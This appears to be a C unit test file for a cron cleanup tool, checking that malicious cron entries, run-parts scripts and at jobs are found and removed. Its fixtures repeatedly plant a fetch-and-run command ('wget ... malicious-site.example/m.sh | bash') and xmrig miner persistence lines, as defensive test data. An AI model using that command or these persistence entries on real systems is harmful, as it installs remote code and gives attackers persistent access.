/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "change/file-edit.h"
#include "change/file-move.h"
#include "plan-stage.h"

#include <errno.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

extern const struct action cron_remove;

#define EVIL "wget -qO- http://malicious-site.example/m.sh | bash"

static int plan_it(struct stage *s)
{
	return cron_remove.plan(&s->host, s->args, s->plan);
}

static void entries_go_wherever_they_are(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_stage(&s);
	put(&s, "/var/spool/cron/crontabs/root",
	    "# one\n0 3 * * * /usr/local/bin/backup\n* * * * * " EVIL "\n5 5 * * 1 x\n");
	put(&s, "/var/spool/cron/www", "* * * * * " EVIL "\n");
	put(&s, "/etc/crontab", "SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n* * * * * root " EVIL "\n");
	put(&s, "/etc/cron.d/perfclean", "* * * * * root " EVIL "\n");
	put(&s, "/etc/cron.d/honest", "* * * * * root /usr/bin/curl https://status.example/ping\n");
	put(&s, "/etc/anacrontab", "1 5 daily run-parts /etc/cron.daily\n1 1 evil " EVIL "\n");
	put(&s, "/etc/cron.hourly/malicious", "#!/bin/sh\n" EVIL "\n");
	put(&s, "/etc/cron.daily/honest", "#!/bin/sh\n# not malicious-site.example\ntrue\n");
	put(&s, "/etc/cron.weekly/bad.sh", "#!/bin/sh\n" EVIL "\n");
	put(&s, "/etc/cron.monthly/.hidden", "#!/bin/sh\n" EVIL "\n");
	put(&s, "/var/spool/cron/atjobs/a0000301c0f8c5", "#!/bin/sh\n# atrun uid=0 gid=0\n" EVIL "\n");
	set(&s, "match", TYPE_TEXT, "malicious-site.example");
	assert_int_equal(plan_it(&s), 0);
	assert_edited(&s, "/var/spool/cron/crontabs/root", "# one\n0 3 * * * /usr/local/bin/backup\n5 5 * * 1 x\n");
	assert_edited(&s, "/var/spool/cron/www", "");
	assert_edited(&s, "/etc/crontab", "SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n");
	assert_edited(&s, "/etc/cron.d/perfclean", "");
	assert_edited(&s, "/etc/anacrontab", "1 5 daily run-parts /etc/cron.daily\n");
	assert_taken(&s, "/etc/cron.hourly/malicious");
	assert_taken(&s, "/etc/cron.weekly/bad.sh");
	assert_taken(&s, "/etc/cron.monthly/.hidden");
	assert_taken(&s, "/var/spool/cron/atjobs/a0000301c0f8c5");
	assert_count(&s, "9", 9);
	assert_true(noted(plan_notes(s.plan), "bad.sh: run-parts passes over"));
	assert_false(noted(plan_notes(s.plan), "/malicious:"));
	assert_int_equal(plan_residuals(s.plan)->n, 0);
	assert_int_equal(s.host.blind.n, 0);
}

static void paths_lead_to_entries_and_scripts(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_stage(&s);
	put(&s, "/var/spool/cron/crontabs/root",
	    "@reboot /usr/local/bin/xmrig -B\n@reboot /usr/local/bin/xmrig.conf\n");
	put(&s, "/etc/cron.hourly/malicious", "\177ELF whatever");
	put(&s, "/etc/cron.daily/start", "#!/bin/sh\nexec /usr/local/bin/xmrig\n");
	struct value v = {.type = TYPE_PATH, .list = true};
	strv_add(&v.items, "/usr/local/bin/xmrig");
	strv_add(&v.items, "/etc/cron.hourly/malicious");
	args_set(s.args, "references", &v);
	value_free(&v);
	assert_int_equal(plan_it(&s), 0);
	assert_edited(&s, "/var/spool/cron/crontabs/root", "@reboot /usr/local/bin/xmrig.conf\n");
	assert_taken(&s, "/etc/cron.hourly/malicious");
	assert_taken(&s, "/etc/cron.daily/start");
	assert_count(&s, "3", 3);
}

static void users_are_a_limit(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_stage(&s);
	put(&s, "/etc/passwd", "root:x:0:0::/root:/bin/sh\nwww:x:33:33::/:/bin/sh\n");
	put(&s, "/var/spool/cron/crontabs/root", "* * * * * " EVIL "\n");
	put(&s, "/var/spool/cron/crontabs/www", "* * * * * " EVIL "\n");
	put(&s, "/etc/cron.d/x", "* * * * * root " EVIL "\n* * * * * www " EVIL "\n");
	put(&s, "/etc/cron.hourly/malicious", EVIL "\n");
	set(&s, "match", TYPE_TEXT, "malicious-site.example");
	set(&s, "users", TYPE_USER, "www");
	assert_int_equal(plan_it(&s), 0);
	assert_edited(&s, "/var/spool/cron/crontabs/www", "");
	assert_edited(&s, "/etc/cron.d/x", "* * * * * root " EVIL "\n");
	assert_count(&s, "2", 2);
}

static void an_empty_list_means_nothing_to_do(void **state)
{
	(void)state;
	static const char *const empty[] = {"match", "users"};
	for (size_t i = 0; i < sizeof(empty) / sizeof(empty[0]); i++) {
		_cleanup_(close_stage) struct stage s;
		open_stage(&s);
		put(&s, "/etc/crontab", "* * * * * root " EVIL "\n");
		set(&s, empty[i], TYPE_TEXT, NULL);
		if (strcmp(empty[i], "users") == 0)
			set(&s, "match", TYPE_TEXT, "malicious-site.example");
		assert_int_equal(plan_it(&s), 0);
		assert_count(&s, "0", 0);
	}
}

static void a_text_that_matches_everything_is_an_error(void **state)
{
	(void)state;
	static const char *const texts[] = {"", " ", "*", "* * * * *"};
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		_cleanup_(close_stage) struct stage s;
		open_stage(&s);
		put(&s, "/etc/crontab", "* * * * * root x\n");
		set(&s, "match", TYPE_TEXT, texts[i]);
		assert_int_equal(plan_it(&s), -EINVAL);
		assert_int_equal(plan_count(s.plan), 0);
		assert_true(strlen(plan_failure(s.plan)) > 0);
	}
}

static void what_is_no_file_stops_nothing(void **state)
{
	(void)state;
	if (geteuid() != 0)
		skip();
	_cleanup_(close_stage) struct stage s;
	char full[PATH_MAX];
	open_stage(&s);
	full_path(&s, "/etc/cron.d/fifo", full);
	assert_int_equal(mkfifo(full, 0644), 0);
	full_path(&s, "/etc/cron.hourly/dir/x", full);
	put(&s, "/srv/evil", "* * * * * root " EVIL "\n");
	put(&s, "/home/u/evil", "* * * * * root " EVIL "\n");
	full_path(&s, "/home/u", full);
	assert_int_equal(chown(full, 1001, 1001), 0);
	link_to(&s, "/srv/evil", "/etc/cron.d/link");
	link_to(&s, "/nowhere", "/etc/cron.d/dangling");
	put(&s, "/etc/cron.d/z", "* * * * * root " EVIL "\n");
	/* a spool that somebody else can change */
	put(&s, "/var/spool/cron/crontabs/root", "* * * * * " EVIL "\n");
	link_to(&s, "/home/u/evil", "/var/spool/cron/crontabs/u");
	full_path(&s, "/var/spool/cron/crontabs/u", full);
	assert_int_equal(lchown(full, 1001, 1001), 0);
	set(&s, "match", TYPE_TEXT, "malicious-site.example");
	assert_int_equal(plan_it(&s), 0);
	/* root's own link leads to what cron reads; somebody else's is not followed */
	assert_edited(&s, "/srv/evil", "");
	assert_edited(&s, "/etc/cron.d/z", "");
	assert_edited(&s, "/var/spool/cron/crontabs/root", "");
	assert_count(&s, "3", 3);
	assert_int_equal(plan_residuals(s.plan)->n, 1);
	assert_true(noted(plan_residuals(s.plan), "/var/spool/cron/crontabs/u leads through a symbolic link"));
}

static void earlier_steps_are_seen(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_stage(&s);
	put(&s, "/etc/crontab", "* * * * * root " EVIL "\n* * * * * root other evil\n");
	put(&s, "/etc/cron.hourly/malicious", EVIL "\n");
	assert_int_equal(file_move_plan(&s.host, s.plan, "/etc/cron.hourly/malicious", NULL, NULL), 0);
	_cleanup_buf_ struct buf before = {0}, after = {0};
	assert_int_equal(file_edit_read(&s.host, s.plan, "/etc/crontab", &before), 0);
	buf_puts(&after, "* * * * * root " EVIL "\n");
	assert_int_equal(file_edit_plan(&s.host, s.plan, "/etc/crontab", &before, &after, NULL, NULL), 0);
	plan_begin_step(s.plan, "cron");
	set(&s, "match", TYPE_TEXT, "malicious-site.example");
	assert_int_equal(plan_it(&s), 0);
	assert_count(&s, "1", 3);
	assert_string_equal(buf_text(&plan_at(s.plan, 2)->result), "");
}

static void hostile_names_are_escaped(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_stage(&s);
	put(&s, "/etc/cron.hourly/evil\n\033[2J", EVIL "\n");
	put(&s, "/etc/cron.d/x\ny", "\r* * * * * root " EVIL "\n");
	set(&s, "match", TYPE_TEXT, "malicious-site.example");
	assert_int_equal(plan_it(&s), 0);
	assert_taken(&s, "/etc/cron.hourly/evil\n\033[2J");
	assert_true(plan_notes(s.plan)->n >= 1);
	for (size_t i = 0; i < plan_notes(s.plan)->n; i++)
		assert_null(strpbrk(plan_notes(s.plan)->v[i], "\n\r\033"));
}

static void what_is_inert_is_told_and_left(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_stage(&s);
	put(&s, "/etc/crontab", EVIL "\n# " EVIL "\n");
	set(&s, "match", TYPE_TEXT, "malicious-site.example");
	assert_int_equal(plan_it(&s), 0);
	assert_count(&s, "0", 0);
	assert_true(noted(plan_notes(s.plan), "line 1: holds malicious-site.example: not an entry"));
}

/* Honest entries name the system's own programs, too. */
static void what_a_package_owns_tells_nothing(void **state)
{
	(void)state;
	struct stage s;
	open_stage(&s);
	put(&s, "/var/lib/dpkg/info/base-files.list", "/.\n/usr\n/usr/bin\n/usr/bin/wget\n");
	put(&s, "/usr/bin/wget", "");
	put(&s, "/etc/crontab", "0 1 * * * root /usr/bin/wget https://status.example/ping\n");
	set(&s, "references", TYPE_PATH, "/usr/bin/wget");
	assert_int_equal(plan_it(&s), 0);
	assert_count(&s, "0", 0);
	assert_true(noted(plan_residuals(s.plan), "/usr/bin/wget belongs to the package base-files"));
	close_stage(&s);
}

/* A device, a directory at the top, one that all write to; but not what lies in it. */
static void what_is_everybodys_tells_nothing(void **state)
{
	(void)state;
	struct stage s;
	open_stage(&s);
	put(&s, "/dev/null", "");
	put(&s, "/scratch/x", "");
	put(&s, "/var/scratch/y", "");
	assert_int_equal(unlinkat(s.host.root, "dev/null", 0), 0);
	assert_int_equal(mkfifoat(s.host.root, "dev/null", 0666), 0);
	assert_int_equal(fchmodat(s.host.root, "var/scratch", 01777, 0), 0);
	put(&s, "/etc/crontab", "0 1 * * * root run-parts /etc >/dev/null\n0 2 * * * root cd /scratch; a\n"
	                        "0 3 * * * root cd /var/scratch; b\n0 4 * * * root /var/scratch/y\n");
	static const char *const references[] = {"/dev/null", "/scratch", "/var/scratch", "/var/scratch/y", NULL};
	set_list(&s, "references", TYPE_PATH, references);
	assert_int_equal(plan_it(&s), 0);
	assert_count(&s, "1", 1);
	assert_true(noted(plan_residuals(s.plan), "/dev/null is everybody's"));
	assert_true(noted(plan_residuals(s.plan), "/scratch is everybody's"));
	assert_true(noted(plan_residuals(s.plan), "/var/scratch is everybody's"));
	close_stage(&s);
}

static void the_root_directory_is_no_reference(void **state)
{
	(void)state;
	struct stage s;
	open_stage(&s);
	put(&s, "/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
	set(&s, "references", TYPE_PATH, "/");
	assert_int_equal(plan_it(&s), -EINVAL);
	assert_int_equal(plan_count(s.plan), 0);
	close_stage(&s);
}

static void a_clean_host_has_nothing_to_do(void **state)
{
	(void)state;
	_cleanup_(close_stage) struct stage s;
	open_stage(&s);
	set(&s, "match", TYPE_TEXT, "malicious-site.example");
	assert_int_equal(plan_it(&s), 0);
	assert_count(&s, "0", 0);
	assert_int_equal(plan_notes(s.plan)->n + plan_residuals(s.plan)->n + s.host.blind.n, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(entries_go_wherever_they_are),
		cmocka_unit_test(paths_lead_to_entries_and_scripts),
		cmocka_unit_test(what_a_package_owns_tells_nothing),
		cmocka_unit_test(what_is_everybodys_tells_nothing),
		cmocka_unit_test(the_root_directory_is_no_reference),
		cmocka_unit_test(users_are_a_limit),
		cmocka_unit_test(an_empty_list_means_nothing_to_do),
		cmocka_unit_test(a_text_that_matches_everything_is_an_error),
		cmocka_unit_test(what_is_no_file_stops_nothing),
		cmocka_unit_test(earlier_steps_are_seen),
		cmocka_unit_test(hostile_names_are_escaped),
		cmocka_unit_test(what_is_inert_is_told_and_left),
		cmocka_unit_test(a_clean_host_has_nothing_to_do),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
